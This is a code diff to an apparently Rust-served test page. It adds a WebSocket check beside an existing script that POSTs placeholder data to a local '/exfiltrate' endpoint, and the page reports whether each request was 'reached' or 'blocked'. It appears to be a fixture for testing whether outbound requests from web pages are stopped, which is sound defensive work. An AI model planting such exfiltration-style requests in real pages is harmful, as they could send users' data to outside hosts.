@@ -198,12 +198,15 @@ async fn fetch_away(State(s): State<SiteState>) -> Html<String> {
     page(
         "Fetch",
         &format!(
-            r#"<p id="status">pending</p><script>
-                 fetch("http://127.0.0.1:{}/exfiltrate", {{method: "POST", body: "data"}})
+            r#"<p id="status">pending</p><p id="ws">pending</p><script>
+                 fetch("http://127.0.0.1:{port}/exfiltrate", {{method: "POST", body: "data"}})
                    .then(() => "reached").catch(() => "blocked")
                    .then(r => {{ const p = document.getElementById("status"); p.textContent = r; p.className = "done"; }});
+                 const ws = new WebSocket("ws://127.0.0.1:{port}/socket");
+                 ws.onopen = () => {{ const p = document.getElementById("ws"); p.textContent = "reached"; p.className = "done"; }};
+                 ws.onerror = () => {{ const p = document.getElementById("ws"); p.textContent = "blocked"; p.className = "done"; }};
                </script>"#,
-            s.sink
+            port = s.sink
         ),
     )
 }
